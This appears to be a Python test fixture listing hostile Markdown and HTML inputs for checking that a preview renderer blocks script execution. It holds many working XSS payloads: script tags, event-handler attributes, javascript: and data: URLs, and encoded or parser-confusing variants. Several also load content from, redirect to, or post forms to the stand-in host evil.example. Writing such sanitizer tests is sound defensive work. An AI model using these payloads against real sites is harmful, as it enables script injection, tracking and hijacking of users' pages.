"""Markdown that tries to run code, load things or escape the page.

Every payload's goal is a side effect the preview test can look for:
`window.__pwned` set, or the page navigated away / its title changed.
"""

PWN = "window.__pwned=1"

HOSTILE_MARKDOWN = {
    "script tag": f"<script>{PWN}</script>",
    "script in paragraph": f"نص <script>{PWN}</script> نص",
    "mixed case script": f"<ScRiPt>{PWN}</sCrIpT>",
    "script with src": '<script src="https://evil.example/x.js"></script>',
    "img onerror": f'<img src="x" onerror="{PWN}">',
    "img onerror unquoted": f"<img src=x onerror={PWN}>",
    "svg onload": f'<svg onload="{PWN}"><circle r="5"/></svg>',
    "svg script": f"<svg><script>{PWN}</script></svg>",
    "body onload": f'<body onload="{PWN}">',
    "javascript link": f"[اضغط](javascript:{PWN})",
    "javascript link encoded": "[اضغط](jav&#x61;script:window.__pwned=1)",
    "javascript href html": f'<a href="javascript:{PWN}">رابط</a>',
    "vbscript link": "[x](vbscript:msgbox(1))",
    "data html link": "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)",
    "data svg image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3B3bmVkPTEiLz4=)",
    "iframe evil": '<iframe src="https://evil.example/"></iframe>',
    "iframe srcdoc": f'<iframe srcdoc="<script>{PWN}</script>"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base href": '<base href="https://evil.example/">',
    "link stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "style url": '<style>body { background: url("https://evil.example/track.png") }</style>',
    "style attribute url": '<p style="background:url(https://evil.example/t.png)">نص</p>',
    "comment hiding tag": f"<!-- --><script>{PWN}</script><!-- -->",
    "comment trick": f"<!--<img src=\"--><img src=x onerror={PWN}//\">",
    "malformed nesting": f"<p><b><i>نص</b></i><img src=x onerror={PWN}",
    "unclosed attribute": f'<img src="x" alt="a onerror={PWN}>',
    "entities in handler": '<img src=x onerror="&#119;indow.__pwned=1">',
    "form action": '<form action="https://evil.example/"><input name=q><button>x</button></form>',
    "details ontoggle": f'<details open ontoggle="{PWN}"><summary>x</summary></details>',
    "video onerror": f'<video src=x onerror="{PWN}"></video>',
    "math href": '<math><a xlink:href="javascript:window.__pwned=1">x</a></math>',
    "autofocus onfocus": f'<input autofocus onfocus="{PWN}">',
    "markdown image onerror attr list": "![x](y){: onerror=\"window.__pwned=1\"}",
    "link title breakout": '[x](https://example.com "a\\" onmouseover=\\"window.__pwned=1")',
    "template tag": f"<template><script>{PWN}</script></template>",
    "noscript trick": f"<noscript><p title=\"</noscript><img src=x onerror={PWN}>\"></noscript>",
}
